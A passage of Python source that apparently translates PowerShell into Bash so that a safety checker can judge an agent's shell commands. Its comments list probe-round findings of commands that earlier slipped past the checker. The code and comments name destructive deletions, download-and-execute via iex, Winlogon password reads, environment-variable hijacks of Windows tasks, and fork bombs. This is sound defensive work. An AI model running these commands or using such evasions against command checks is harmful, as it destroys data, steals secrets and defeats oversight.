    """A switch's options (-Regex, -Wildcard, -Exact, -CaseSensitive; -File F, whose lines
    it reads) and its redirections."""
    keep, i = [], 0
    files = []
    while i < len(rest):
        t = rest[i]
        if t[0] == "p" and t[1].lower() in ("-regex", "-wildcard", "-exact", "-casesensitive"):
            i += 1
            continue
        if t[0] == "p" and t[1].lower() == "-file" and i + 1 < len(rest) and rest[i + 1][0] in ("w", "s", "v"):
            files.append(_word(rest[i + 1], depth))
            i += 2
            continue
        keep.append(t)
        i += 1
    head = "".join("; cat -- " + f + " > /dev/null" for f in files)
    if not keep:
        return head
    named, pos, redirs = _params(keep)
    if named or pos:
        raise _Unknown
    return head + _redirs(redirs, depth)


def _loop(keyword: str, rest: list[_T], depth: int) -> str:
    """while (…) { BODY }, for (…;…;…) { BODY }, do { BODY } while (…): BODY run again and
    again (a Start-Process in it is a fork bomb); foreach ($x in 'a','b') { BODY }: BODY
    with $x each literal item."""
    blocks = [t[1] for t in rest if t[0] == "block"]
    conds = [t[1] for t in rest if t[0] == "paren"]
    if keyword == "foreach":
        m = re.fullmatch(r"(?is)\s*\$(\w+)\s+in\s+(.+?)\s*", conds[0]) if conds else None
        if m is None:
            raise _Unknown
        try:
            listed = [t for t in _tokens(m.group(2)) if t != ("op", ",")]
        except (_Unknown, IndexError):
            listed = []
        runs = []
        # ((probe round 45, pwsh45) a bare word first is a command's name: foreach ($f in Get-ChildItem src)
        # loops over what that pipeline gives, not over the words 'Get-ChildItem' and 'src')
        if listed and all(t[0] in ("s", "w") and not t[1].startswith("$") for t in listed) and (
                listed[0][0] == "s" or _NUMBER.match(listed[0][1])):
            for t in listed:
                lit = "'" + t[1].replace("'", "''") + "'"
                runs += [to_bash(_put_value(b, re.escape(m.group(1)), {"": lit}), depth + 1) for b in blocks]
        else:
            piped = _foreach_piped(m.group(1), m.group(2), blocks)
            runs = [to_bash(piped, depth + 1)] if piped is not None else \
                [to_bash(m.group(2), depth + 1) + " > /dev/null"] + [to_bash(b, depth + 1) for b in blocks]
        return "for _ in 1; do " + "; ".join(runs) + "; done"
    cond = "; ".join(_condition_bash(c, depth) for c in conds if c.strip() and ";" not in c)
    return "while true; do " + (cond + "; " if cond else "") + "; ".join(to_bash(b, depth + 1) for b in blocks) + "; done"


# (an item run, or written into a string: & $_, . $_, Start-Process $_, Invoke-Item $_, iex, "$_\*": the
# block is read as before, with what it runs unknown)
_ITEM_RUN = re.compile(r"""(?i)(?:(?:^|(?<=[;{(\s]))(?:invoke-item|ii|start-process|start|saps|import-module|ipmo|"""
                       r"""invoke-expression|iex|invoke-command|icm|start-job|sajb|start-threadjob)\b|[&.](?=\s*[$'"(]))"""
                       r"""[^;{}|\n]*?\$(?:_|psitem)\b|"""
                       # ((probe round 47, pwsh47) a string from its opening quote, past whole strings
                       # before it: the closing quote of "2.0"; ... $_ opened none)
                       r"""^(?:[^"']|'[^']*'|"(?:[^"`]|`.)*")*?"(?:[^"`]|`.)*?\$(?:_|psitem)\b""", re.S)
# ((probe round 52, pwsh52) the item run, its text in a string aside: a line of text is the string's own)
_ITEM_CALLED = re.compile(_ITEM_RUN.pattern[:_ITEM_RUN.pattern.index(r"\b|^(?:")] + r"\b")
_ITEM_PROPERTY = re.compile(r"(?i)\$(?:_|psitem)\.(?=[a-z])")
_ITEM_VAR = re.compile(r"(?i)\$(?:_|psitem|input)(?![\w:])")
_ITEM_MEMBER = re.compile(r"(?i)\$(?:_|psitem)[.\[]|\$input\b|\$\{(?:_|psitem)\}")
# (what gives $_ another value inside a block: a pipeline's block, a switch, a catch or a trap)
# ((probe round 47, pwsh47) a pipeline only where a later stage has a block: Get-Content $_ | ConvertFrom-Json
# reads the item itself, as PowerShell binds an argument's $_ before the pipeline runs)
_ITEM_REBOUND = re.compile(r"(?i)\|[^;\n]*[{}]|\b(?:switch|catch|trap|foreach-object|where-object)\b")


def _foreach_piped(var: str, collection: str, blocks: list[str]) -> str | None:
    """(probe round 45, pwsh45) foreach ($f in COLLECTION) { BODY } as COLLECTION | ForEach-Object { BODY
    with $f as $_ }, when COLLECTION is a pipeline whose items are named (Get-ChildItem src, Get-Process
    node; a variable given such a reading, written in by _bound), so that what BODY does to each item is
    what the pipeline's stage does to them; None otherwise (the loop read as before)."""
    if len(blocks) != 1 or var.lower() in ("_", "psitem", "input", "this") or _ITEM_VAR.search(blocks[0]) \
            or _binds(var, blocks[0]):
        return None
    inner = collection.strip()
    if inner.startswith("(") and inner.endswith(")") and not re.search(r"[;\n]", inner):
        try:
            if _close(inner, 0) == len(inner) - 1:
                inner = inner[1:-1].strip()
        except (_Unknown, IndexError):
            return None
    try:
        toks = _tokens(inner)
    except (_Unknown, IndexError):
        return None
    first = []
    for t in toks:
        if t == ("op", "|"):
            break
        if t[0] == "op" and t[1] != ",":
            return None
        first.append(t)
    if not first or first[0][0] != "w" or (_items_of(first) is None and _process_names(first) is None
                                            and _cmdlet(first[0]) != "get-process"):
        return None
    body = re.sub(r"(?i)\$(\{)?%s(?(1)\})(?![\w:])" % re.escape(var), lambda _m: "$_", blocks[0])
    return inner + " | ForEach-Object {" + body + "}"


# (probe round 51, pwsh51) a program named by an expression PowerShell resolves: $env:ComSpec (cmd.exe),
# $PSHOME\NAME, (Join-Path $PSHOME NAME), (Get-Command NAME).Source/.Path/.Definition, the running
# shell's own path ((Get-Process -Id $PID).Path, [Diagnostics.Process]::GetCurrentProcess()...)
_PROGRAM_VAR = re.compile(r"(?i)\$(?:env:comspec|\{env:comspec\})|\$(?:pshome|\{pshome\})[\\/]+([\w.-]+)")
_PROGRAM_EXPR = re.compile(r"(?i)\s*(?:(?:get-command|gcm)\s+(?:-name\s+)?['\"]?([\w.-]+)['\"]?\s*\x00\.(?:source|path|"
                           r"definition)|(?:get-process|gps|ps)\s+-id\s+\$pid\s*\x00\.path|\[(?:system\.)?diagnostics\."
                           r"process\]::getcurrentprocess\(\s*\)(?:\.mainmodule)?\.(?:path|filename)|join-path\s+\$pshome\s+"
                           r"['\"]?([\w.-]+)['\"]?)\s*")


def _program_of(t: _T) -> str | None:
    """The program an expression or a variable names (_PROGRAM_VAR, _PROGRAM_EXPR), or None."""
    if t[0] in ("v", "w"):
        m = _PROGRAM_VAR.fullmatch(t[1]) if "$" in t[1][:2] else None
        return None if m is None else m.group(1) or "cmd.exe"
    if t[0] in ("paren", "sub"):
        m = _PROGRAM_EXPR.fullmatch(t[1])
        return None if m is None else m.group(1) or m.group(2) or "pwsh.exe"
    return None


def _unknown_call(rest: list[_T], depth: int) -> str:
    """& $c ARGS, & (expr) ARGS, a function the code defines: a command whose name is
    only known at run time. Given Remove-Item's -Recurse and a path, it is read as
    Remove-Item too, as Bash's $RM -rf / is rm -rf /."""
    try:
        named, pos, _redir = _params(rest)
    except (_Unknown, IndexError):
        return UNKNOWN
    if _has(named, "recurse") and (pos or _values(named, "path", "literalpath", least=1)):
        try:
            return UNKNOWN + "; " + _command_inner([("w", "Remove-Item")] + rest, depth, False)
        except (_Unknown, IndexError):
            return UNKNOWN
    return UNKNOWN


def _subexpressions(v: str) -> list[str]:
    """The code of each $( ) in an expandable string's text (a backtick escapes the $);
    text that cannot be read is unknown code."""
    out: list[str] = []
    i = 0
    while i < len(v):
        if v[i] == "`":
            i += 2
            continue
        if v.startswith("$(", i):
            try:
                end = _close(v, i + 1)
            except (_Unknown, IndexError):
                return [UNKNOWN_CODE]
            out.append(v[i + 2:end])
            i = end + 1
            continue
        i += 1
    return out


_PARAM_BLOCK = re.compile(r"(?is)^\s*param\s*\(((?:[^()]|\([^()]*\))*)\)")
# (probe round 47, pwsh47) $args or @args as a whole argument of a command (git log @args), not in a
# string nor indexed nor a member
_ARGS_WORD = re.compile(r"(?i)(?<=\s)[@$]args(?=$|[\s;|)}])")


def _args_unread(body: str) -> bool:
    """Does a function's body use $args other than indexed ($args[0]) or passed on whole (@args)?"""
    return "args" in body.lower() and len(_ARGS_USE.findall(body)) != len(_ARGS_WORD.findall(body))


def _args_splat(body: str, given: list[_T]) -> str | None:
    """(probe round 47, pwsh47) A block (a function's body) that declares no parameters and passes
    what it is given on whole (function gl { git log @args }; gl -5 --oneline), given plain words
    and strings: the body with each $args/@args written as those words; else None."""
    if _PARAM_BLOCK.match(body) or not _ARGS_WORD.search(body) or \
            len(_ARGS_USE.findall(body)) != len(_ARGS_WORD.findall(body)) or len(given) > 32:
        return None
    words = []
    for a in given:
        if a[0] == "s":
            words.append("'" + a[1].replace("'", "''") + "'")
        elif a[0] in ("w", "p") and re.fullmatch(r"[\w.:/\\=+,~*?-]+", a[1]) or a[0] == "v" and re.fullmatch(
                r"(?i)\$(?:\w+|env:\w+|\{env:\w+\})", a[1]):
            words.append(a[1])
        else:
            return None
    text = " ".join(words)
    return _ARGS_WORD.sub(lambda _m: text, body)


def _bind_params(body: str, given: list[_T]) -> str:
    """A script block's param(...) with the values -ArgumentList gives, bound as
    assignments of literals ($p = 'C:\'), the declaration dropped."""
    m = _PARAM_BLOCK.match(body)
    if not m:
        return body
    names = re.findall(r"\$(\w+)", re.sub(r"\[[^\]]*\]", "", m.group(1)))
    binds = "".join(f"${n} = '{v[1].replace(chr(39), chr(39) * 2)}'; " for n, v in zip(names, given))
    return binds + body[m.end():]


def _given_params(body: str, given: list[_T]) -> str:
    """A script block's param(...) with the literal values given positionally (& { param($p) ... }
    'C:\'), each $p in the body written as that value, the declaration dropped (probe round 37)."""
    m = _PARAM_BLOCK.match(body)
    names = re.findall(r"\$(\w+)", re.sub(r"\[[^\]]*\]", "", m.group(1))) if m else []
    rest = body[m.end():] if m else body

    def lit(v: _T) -> str:
        # (a variable given, $HOME or $env:USERPROFILE, is written in as itself)
        return v[1] if v[0] == "v" else "'" + v[1].replace("'", "''") + "'"
    for n, v in zip(names, given):
        rest = re.sub(r"(?i)\$%s(?![\w.:])" % re.escape(n), lambda _m: lit(v), rest)
    # ($args[0], $args[1]: the values given, in order, when the block declares no parameters)
    rest = re.sub(r"(?i)\$args\[(\d)\](?![\w.\[])", lambda a: lit(given[int(a.group(1))])
                  if not names and int(a.group(1)) < len(given) else a.group(0), rest)
    return rest


# variables of the environment whose value Windows' own programs and tasks run or search for programs
# ($env:windir in SilentCleanup's command, ComSpec, PATHEXT, PSModulePath): not a literal setting
_WINDOWS_ENV_RUNS = frozenset({"windir", "systemroot", "comspec", "pathext", "psmodulepath", "path", "systemdrive",
                               "userprofile", "home", "appdata", "localappdata", "temp", "tmp", "programfiles",
                               "programdata", "cor_profiler", "cor_enable_profiling", "coreclr_profiler",
                               "coreclr_enable_profiling", "dotnet_startup_hooks"})
_ENV_SET = re.compile(r"(?is)\$(?:env:([A-Za-z_]\w*)|\{env:([A-Za-z_]\w*)\})(?:=(.*))?")
_NUMBER = re.compile(r"(?i)^-?(?:0x[0-9a-f]+|\d+(?:\.\d+)?(?:e\d+)?)(?:[kmgtp]b)?$")


# the operators of a test: what they give is true or false
_TEST_OP = re.compile(r"(?i)^-(?:not|and|or|xor|[ci]?(?:eq|ne|gt|ge|lt|le|like|notlike|match|notmatch|contains|"
                      r"notcontains|in|notin)|is|isnot)$")


def _condition(toks: list[_T]) -> list[str] | None:
    """(probe round 44, pwsh44) -not (Test-Path out), !(Test-Path out), (Test-Path a) -and ($x -gt 1),
    -not $env:CI: an expression (an if's or while's condition) of values and (...) joined by the value
    operators: the code of each (...) or $( ), which runs; None for any other shape."""
    runs: list[str] = []
    ops = 0
    for kind, text in toks:
        if kind in ("paren", "sub"):
            runs.append(text)
        elif kind == "p" and _TEST_OP.match(text) or kind == "w" and text == "!":
            ops += 1
        elif kind == "v" and _VALUE_VAR.match(text) or kind == "s" and "$(" not in text and "`" not in text \
                or kind == "w" and _VALUE_WORD.match(text) and text not in "-+*/%,":
            continue
        else:
            return None
    return runs if ops and len(toks) > 1 else None


def _condition_bash(text: str, depth: int) -> str:
    """An if's, elseif's or while's (condition) as Bash: the code its (...) run, when it is a test
    (_condition); else the whole read as a statement, its output dropped."""
    try:
        runs = _condition(_bound(_tokens(text), text)) if "(" in text or "-" in text else None
    except (_Unknown, IndexError):
        runs = None
    if runs is None:
        return to_bash(text, depth + 1) + " > /dev/null"
    return "{ " + "; ".join([to_bash(r, depth + 1) for r in runs] or ["true"]) + "; } > /dev/null"


def _command_inner(toks: list[_T], depth: int, piped: bool | str) -> str:
    head = toks[0]
    env_set = _ENV_SET.fullmatch(head[1]) if head[0] in ("v", "w") and head[1][:5].lower() in ("$env:", "${env") else None
    if env_set is not None:
        # (probe round 44, pwsh44) $env:NODE_ENV = 'test', $env:NODE_OPTIONS='--require ./x.js': a variable of
        # the environment given a literal, which the programs run later read, as Bash's export
        # NAME=VALUE (a value with a variable or an expression in it: as before)
        value = env_set.group(3) if env_set.group(3) is not None else (
            toks[2][1] if len(toks) == 3 and toks[1] == ("w", "=") and toks[2][0] in ("s", "w") else None)
        name = (env_set.group(1) or env_set.group(2)).lower()
        assigned = env_set.group(3) is not None or len(toks) > 1 and toks[1][0] == "w" and re.fullmatch(
            r"[-+*/%]?=", toks[1][1]) is not None
        if assigned and name in _WINDOWS_ENV_RUNS:
            raise _Unknown   # ($env:windir = 'cmd /c x &&', $env:ComSpec: what Windows' own tasks run)
        if value is not None and (len(toks) == 1 or env_set.group(3) is None) and "$" not in value \
                and "`" not in value:
            return "export " + (env_set.group(1) or env_set.group(2)) + "=" + shlex.quote(value)
    if head[0] == "w" and _NUMBER.match(head[1]) and all(t[0] in ("w", "s", "p") for t in toks[1:]):
        # (probe round 40, pwsh40) 1, 1 -eq 1, 5MB -gt 1KB: a number begins an expression, no
        # program is named (switch (1) { 1 { … } }, if (1 -eq 1) { … })
        return "true"
    # & 'C:\x.exe' args / & $x / . .\script.ps1: the call and dot-source operators
    if head == ("op", "&") or (head[0] == "w" and head[1] == "."):
        if len(toks) < 2:
            raise _Unknown
        target = toks[1]
        if target[0] == "block":
            # (& { param($p) ... } 'C:\', & $sb 'C:\', & { ... $args[0] } $HOME: the values given;
            # probe round 37)
            def simple(a: _T) -> bool:
                return a[0] in ("w", "s") or (a[0] == "v" and re.fullmatch(
                    r"(?i)\$(?:\w+|env:\w+|\{env:\w+\})", a[1]) is not None)
            splat = _args_splat(target[1], toks[2:])
            if splat is not None:
                return "( " + to_bash(splat, depth + 1) + " )"
            given: list[_T] = []
            by_name: dict[str, _T] = {}
            k = 2
            while k < len(toks):
                a = toks[k]
                if a[0] == "p" and k + 1 < len(toks) and simple(toks[k + 1]):
                    by_name[a[1][1:].lower()] = toks[k + 1]   # (-p C:\: by the parameter's name)
                    k += 2
                    continue
                if a[0] != "op" and not simple(a):
                    given, by_name = [], {}
                    break
                if a[0] != "op":
                    given.append(a)
                k += 1
            pm = _PARAM_BLOCK.match(target[1])
            if by_name and pm:
                names = re.findall(r"\$(\w+)", re.sub(r"\[[^\]]*\]", "", pm.group(1)))
                rest_pos = iter(given)
                given = []
                for n in names:
                    got = next((v for key, v in by_name.items() if n.lower().startswith(key)), None)
                    nxt = got if got is not None else next(rest_pos, None)
                    if nxt is None:
                        break
                    given.append(nxt)
            return "( " + to_bash(_given_params(target[1], given) if given else target[1], depth + 1) + " )"
        if target[0] in ("w", "s"):
            toks = [("w", target[1])] + toks[2:]
            head = toks[0]
            if head[1].lower().endswith(".ps1") or head[0] == "." or "/" in head[1] or "\\" in head[1]:
                return _native(toks, depth)
        else:
            here = _here_path(target)
            if here is not None:
                # (probe round 41, pwsh41) & "$PWD\x.ps1", . $PSScriptRoot/x.ps1: the script beside
                # the working directory (the running script's folder: read as it, where a rule on
                # ./x.ps1 meets it, and still known only at run time)
                return _native([here[0]] + toks[2:], depth) + ("; " + UNKNOWN if here[1] else "")
            named_prog = _program_of(target)
            if named_prog is not None:
                # ((probe round 51, pwsh51) & $env:ComSpec /c ..., & "$PSHOME\pwsh.exe" -c ..., & (gcm cmd).Path:
                # the program the expression names, still known only at run time (never allowed))
                return _native([("w", named_prog)] + toks[2:], depth) + "; " + UNKNOWN
            if target[0] == "v" and (_DIR_VAR.match(target[1]) or _HOME_VARS.match(target[1])
                                     or _ROOT_VARS.match(target[1])) and "$" not in target[1][1:]:
                # ((probe round 49, pwsh49) & "$env:ProgramFiles\PowerShell\7\pwsh.exe" -c ..., & "$HOME\x.exe":
                # the program in that place, read as it (its catastrophe denied), and still known only at
                # run time (the variable may be changed): never allowed)
                place = _dynamic_word(target[1])
                if "$POWERSHELL_VALUE" not in place and not place.startswith('"'):
                    word = shlex.split(place)[0] if place[:1] != "~" else "~" + "".join(shlex.split(place[1:]))
                    return _native([("w", word)] + toks[2:], depth) + "; " + UNKNOWN
            made = to_bash(target[1], depth + 1) + "; " if target[0] in ("paren", "sub") else ""
            return made + _unknown_call(toks[2:], depth)
    if head[0] == "arr" and _value_expr(toks) and not re.fullmatch(r"""\s*(?:'[^']*'|"[^"]*")\s*""", head[1]):
        return 'echo "$POWERSHELL_VALUE"'   # (@(1, 2), @{a = 1}: literal values; round 42)
    if head[0] in ("paren", "sub", "arr"):
        # an expression as a statement ((iwr URL).Content | iex is below): its parts run
        inner = to_bash(head[1], depth + 1)
        if len(toks) > 1:
            raise _Unknown
        if "\x00" not in head[1] and "." in head[1][-40:] and "(" in head[1]:
            return inner + "; " + UNKNOWN   # (a method call on it: (New-Object X).Download...())
        return inner
    if head[0] in ("s", "v") and len(toks) == 1:
        return "echo " + _word(head, depth)   # a string alone is printed
    if _value_expr(toks):
        # (probe round 42, pwshbenign42) $x * 2, $env:PATH -split ';', 1..10, '{0}' -f $a: values
        # and operators that only compute (no call, block, type or subexpression): a value printed
        return 'echo "$POWERSHELL_VALUE"'
    if head[0] == "v" and len(toks) >= 3 and toks[1] == ("w", "=") and (
            _plain_variable(head[1]) or _OUTPUT_PREFERENCE.fullmatch(head[1])) and _value_expr(toks[2:]):
        # (probe round 42, pwshbenign42) $x = 5, $n = $a.Count + 1: a user's variable given a
        # computed value (the preference, automatic and drive variables excluded)
        return "true"
    if head[0] == "v" and len(toks) == 3 and toks[1] == ("w", "=") and toks[2][0] == "paren" \
            and _plain_variable(head[1]) and (_only_properties_read(head[1]) or re.search(
                r"(?i)\x00\.(?:count|length)$", toks[2][1])):
        # (probe round 43, pwsh43) $count = (Get-ChildItem src).Count, $n = (Get-Content a.txt).Length:
        # a user's variable given a number counted, or a value only read for its properties: what
        # the (...) runs (a method called on it stays a command known only at run time)
        return "{ " + _command_inner(toks[2:], depth, False) + "; } > /dev/null"
    if head[0] == "v" and len(toks) >= 3 and toks[1] == ("w", "=") and toks[2][0] == "w" \
            and re.fullmatch(r"\$\w+", head[1]) and not re.match(r"[\d.+-]", toks[2][1]):
        # ($null = Remove-Item -Recurse -Force ~: the command on the right runs; what the
        # variable then holds, and what it changes, are only known at run time; probe round 32)
        if _plain_variable(head[1]) and _only_properties_read(head[1]):
            # (probe round 42, pwshbenign42) $files = Get-ChildItem *.ps1; $files.Count: a user's
            # variable whose value is later only read for its properties: the command's reading
            return "{ " + _pipeline(toks[2:], depth) + " > /dev/null; }"
        return "{ " + _pipeline(toks[2:], depth) + " > /dev/null; " + UNKNOWN + "; }"
    if head[0] == "v" and len(toks) == 3 and toks[1] == ("w", "=") and toks[2][0] in ("block", "s", "v") \
            and re.fullmatch(r"(?i)\$\{?(?:(?:script|global|local|private):)?[\w:-]+\}?", head[1]) \
            and (toks[2][0] == "block" or re.match(r"(?i)\$\{?function:", head[1])):
        # (probe round 37, pwsh37) $sb = { ... }, ${function:f} = { ... } (or its text as a
        # string): code kept to run later, read as code that runs (a filter's { $_.Length -gt 1kb }
        # computes only); what the variable is called with is read where it is called
        body = toks[2][1]
        if toks[2][0] == "block" and _pure_filter(body):
            return "true"
        return "{ " + to_bash(body, depth + 1) + "; } > /dev/null" + ("; " + UNKNOWN if toks[2][0] == "v" else "")
    if head[0] == "block":
        raise _Unknown
    if head[0] == "v" and not piped and _data_property_set(toks):
        return "true"   # ($j.version = '2.0': a property of data set; probe round 47, pwsh47)
    if head[0] != "w":
        raise _Unknown
    word = head[1]
    if word.lower() == "using" and len(toks) > 2 and toks[1][0] == "w" and toks[1][1].lower() == "module":
        # (probe round 38, pwsh38) using module ./x.psm1: the module loaded, as Import-Module's is
        return _command_inner([("w", "Import-Module")] + toks[2:], depth, piped)
    if word.lower() == "param" and len(toks) > 1 and toks[1][0] == "paren":
        # (param($p) Remove-Item $p: a script's parameters declared, then its first statement)
        return _command_inner(toks[2:], depth, piped) if len(toks) > 2 else "true"
    if word.startswith("$"):
        if len(toks) >= 3 and toks[1] == ("w", "=") or "=" in word:
            # $x = value: an assignment; what its value runs runs
            rhs = toks[2:] if len(toks) >= 3 and toks[1] == ("w", "=") else toks[1:]
            return (_pipeline(rhs, depth) if rhs else "true") + " > /dev/null"
        raise _Unknown
    if word.lower() in ("while", "for", "do", "foreach") and not piped and any(t[0] == "block" for t in toks[1:]):
        return _loop(word.lower(), toks[1:], depth) + _statement_redirs(word.lower(), toks[1:], depth)
    if word.lower() == "switch" and len(toks) > 2 and any(t[0] == "block" for t in toks[2:]):
        # (probe round 40, pwsh40) switch (…) { 'a' { … } 1 { … } { $_ -gt 5 } { … } default { … } }:
        # its clauses, each label a value or a condition and each action code that may run
        # (the body was read as statements: 'a' { … } unread, default a command's name)
        at = max(k for k, t in enumerate(toks) if t[0] == "block")
        subject = toks[at - 1]
        if subject[0] not in ("paren", "sub", "s", "w", "v") or (subject[0] == "w" and subject[1].startswith("-")):
            raise _Unknown
        given = at - 1 if toks[at - 2] != ("p", "-File") and toks[at - 2][1].lower() != "-file" else at
        return "{ " + "; ".join(([to_bash(subject[1], depth + 1) + " > /dev/null"] if subject[0] in ("paren", "sub") else [])
                                + _switch_clauses(toks[at][1], depth)) + "; }" \
            + _switch_redirs(toks[1:given] + toks[at + 1:], depth)
    if word.lower() in ("if", "switch", "try", "trap", "function", "filter") and any(t[0] == "block" for t in toks[1:]):
        # (if (…) {…} elseif (…) {…} else {…}, try {…} catch {…} finally {…}: each part may run;
        # a function's body is read as code that runs, its calls are commands known at run time)
        return "{ " + "; ".join(_condition_bash(t[1], depth) if t[0] == "paren" else to_bash(t[1], depth + 1)
                                for t in toks[1:] if t[0] in ("paren", "block")) + "; }" \
            + _statement_redirs(word.lower(), toks[1:], depth)
    name = _ALIASES.get(word.lower(), word.lower())
    if name in _KEY_READERS and any(t[0] in ("w", "s") and _SECRET_KEY.match(t[1]) for t in toks[1:]):
        raise _Unknown   # (Get-ItemProperty '...\Winlogon': a password read; probe round 44)
    if name == "set-content" and word.lower() == "sc" and len(toks) > 1 and toks[1][0] == "w" and toks[1][1].lower() in (
            "create", "config", "delete", "stop", "start", "query", "qc", "failure", "sdset", "description"):
        return _native([("w", "sc.exe")] + toks[1:], depth)   # (sc create …: sc.exe, as pwsh 7 runs it)
    # ((probe round 41, pwsh41) a place's expression as an argument is that place: a folder lookup,
    # (Join-Path $PWD 'package.json'), (Resolve-Path ~), as Remove-Item's already were)
    rest = [_place_token(t[1]) or t if t[0] in ("paren", "sub") else t for t in toks[1:]]
    if any(t[0] == "p" and _ACTION_PREFERENCE.match(t[1]) for t in rest):
        # ((probe round 45, pwsh45) -ErrorAction SilentlyContinue, -EA 0, -WarningAction Ignore: what the
        # command does about its own errors and messages, a common parameter every cmdlet takes; it
        # made Get-Content x -ErrorAction SilentlyContinue a cmdlet not read here)
        kept: list[_T] = []
        for k, t in enumerate(rest):
            if t[0] == "p" and _ACTION_PREFERENCE.match(t[1]):
                m = _ACTION_PREFERENCE.match(t[1])
                if m.group(1) is None and k + 1 < len(rest) and rest[k + 1][0] in ("w", "s") \
                        and _ACTION_VALUE.fullmatch(rest[k + 1][1]):
                    continue
                if m.group(1) is not None and _ACTION_VALUE.fullmatch(m.group(1)):
                    continue
            if k and rest[k - 1][0] == "p" and _ACTION_PREFERENCE.match(rest[k - 1][1]) \
                    and _ACTION_PREFERENCE.match(rest[k - 1][1]).group(1) is None and t[0] in ("w", "s") \
                    and _ACTION_VALUE.fullmatch(t[1]):
                continue
            kept.append(t)
        rest = kept
    if name == "start-process":
        # ((probe round 45, pwsh45) -Verb is Start-Process's own parameter, given a value (RunAs), not
        # -Verbose's prefix: Start-Process powershell -Verb RunAs was powershell run with RunAs)
        rest = [("p", "-Verb:" + rest[k + 1][1]) if t[0] == "p" and t[1].lower() == "-verb" and k + 1 < len(rest)
                and rest[k + 1][0] in ("w", "s") else t for k, t in enumerate(rest)
                if not (k and rest[k - 1][0] == "p" and rest[k - 1][1].lower() == "-verb" and t[0] in ("w", "s"))]
    named, pos, redirs = _params(rest)
    rd = _redirs(redirs, depth)
    if name in ("set-item", "new-item", "set-content", "add-content") and any(
            t[0] in ("w", "s") and re.match(r"(?i)(?:function|alias):", t[1]) for t in rest):
        # (probe round 37, pwsh37) a function made through the function: drive (Set-Item function:f
        # { ... }, New-Item -Path function: -Name f -Value { ... }, its text as a string): its
        # body read as code that runs, as function f { ... }'s is; its calls are commands only
        # known at run time (_bound); an alias: item names a command (_DRIVE_ALIAS)
        if any(t[0] in ("w", "s") and t[1].lower().startswith("alias:") for t in rest):
            return "true" + rd
        given = _values(named, "value", least=1) or [t for t in pos if not (
            t[0] in ("w", "s") and t[1].lower().startswith("function:"))][-1:]
        if any(t[0] == "block" for t in rest) and not any(t[0] == "block" for t in given):
            given = [t for t in rest if t[0] == "block"]
        if not given or any(t[0] not in ("block", "s", "v", "w") for t in given):
            return UNKNOWN
        return "{ " + "; ".join(to_bash(t[1], depth + 1) for t in given) + "; } > /dev/null" + rd \
            + ("; " + UNKNOWN if any(t[0] == "v" for t in given) else "")
    blocks = [t for t in rest if t[0] == "block"]
    exprs = [t for t in rest if t[0] in ("paren", "sub", "arr")]

    def words(ts: list[_T]) -> str:
        return " ".join(_word(t, depth) for t in ts)

    if name == "remove-item":
        paths = _args_of(named, pos, ("path", "literalpath"))
        flags = "-r -f" if _has(named, "recurse") else "-f"   # (-Force or not: what it can delete goes)
        switches = [t for t in pos if word.lower() in ("del", "erase", "rd", "rmdir") and t[0] == "w"
                    and _CMD_SWITCHES.fullmatch(t[1])]
        if any("s" in t[1].lower() for t in switches):
            # del /s /q C:\, rd /S/Q C:\: cmd's recursive switch given to the alias, as an agent
            # types it (and as cmd runs it when the line reaches it): recursive, the switches
            # not paths (probe round 29)
            flags = "-r -f"
            paths = [t for t in paths if not any(t is x for x in switches)]
        if not paths:
            return f"xargs rm {flags} --{rd}" if piped else UNKNOWN   # (the items piped in)
        keys = [t for t in paths if t[0] in ("w", "s") and _REGISTRY.match(_PROVIDER.sub("", t[1]))]
        if keys:
            # (probe round 36, windows36) a registry key removed is reg delete of it (Remove-Item
            # HKCU:\Software -Recurse was a file under the home, allowed in bypass; reg delete
            # HKCU\Software was denied)
            regs = [windows_program(["reg", "delete", re.sub(r"^(\w+):", r"\1", _PROVIDER.sub("", t[1])), "/f"], depth)
                    for t in keys]
            return "; ".join([r for r in regs if r] + [f"rm {flags} -- {words(paths)}{rd}"])
        return f"rm {flags} -- {words(paths)}{rd}"
    if name in ("clear-content", "clear-item"):
        paths = _args_of(named, pos, ("path", "literalpath"))
        return f"truncate -s 0 -- {words(paths) or chr(34) + '$POWERSHELL_VALUE' + chr(34)}{rd}"
    if name in ("get-childitem", "get-item", "test-path", "get-content") and not blocks and not exprs:
        got = _values(named, "path", "literalpath", least=1) + pos
        env = [_ENV_ENTRY.match(t[1]) if t[0] in ("w", "s") else None for t in got]
        if len(got) == 1 and env[0] and all(k.startswith(("path", "literalpath", "value", "raw", "erroraction", "ea"))
                                            for k in named if k):
            # (probe round 42, pwshbenign42) Get-Item Env:PATH, Test-Path env:JAVA_HOME, Get-Content
            # env:NODE_ENV: one variable of the environment read, as printenv NAME does
            return "printenv " + shlex.quote(env[0].group(1)) + rd
    if name == "get-childitem":
        paths = _values(named, "path", "literalpath", least=1) + pos
        if any(_ENV_DRIVE.match(t[1]) for t in paths if t[0] in ("w", "s")):
            # Get-ChildItem Env: prints the environment, as env does (| Select-String token
            # then picks the secrets out, as env | grep -i token)
            if len(paths) != 1 or len(named) > (1 if _values(named, "path", "literalpath", least=1) else 0) \
                    or blocks or exprs:
                raise _Unknown
            return "env" + rd
        # (hidden items, dot-files on Unix, only with -Force or -Hidden)
        flags = (" -a" if _has(named, "force") or _has(named, "hidden") else "") + (" -R" if _has(named, "recurse") else "")
        if blocks or exprs or any(k for k in named if not any(
                f.startswith(k) for f in ("path", "literalpath", "recurse", "force", "file", "directory", "name",
                                          "filter", "include", "exclude", "depth", "hidden", "attributes"))):
            raise _Unknown
        if not paths and piped:
            return f"xargs ls{flags} --{rd}"   # (Get-Content list.txt | Get-ChildItem: the paths piped in)
        picks = _values(named, "filter", least=4) + _values(named, "include", least=2)
        if picks:
            # -Filter *.env / -Include .env: the names found are those (a prod.env is no
            # hidden file), as find -name lists them
            depth_opt = "" if _has(named, "recurse") else " -maxdepth 1"
            names = " -o ".join("-name " + (shlex.quote(t[1]) if t[0] in ("w", "s") else _word(t, depth))
                                for t in picks)
            return f"find {words(paths) or '.'}{depth_opt} {names}{rd}"
        return f"ls{flags} -- {words(paths)}{rd}".rstrip()
    if name == "import-csv":
        # (probe round 43, pwsh43) Import-Csv data.csv: the file read and its rows printed
        paths = _args_of(named, pos, ("path", "literalpath"))
        if blocks or exprs or not paths or any(k for k in named if not any(f.startswith(k) for f in (
                "path", "literalpath", "delimiter", "header", "encoding", "useculture"))):
            raise _Unknown
        return f"cat -- {words(paths)}{rd}"
    if name == "compare-object":
        # (probe round 43, pwsh43) Compare-Object (Get-Content a.txt) (Get-Content b.txt): two values
        # compared and their differences printed (the (...) given run first, read as they are)
        if blocks or any(k for k in named if not any(f.startswith(k) for f in (
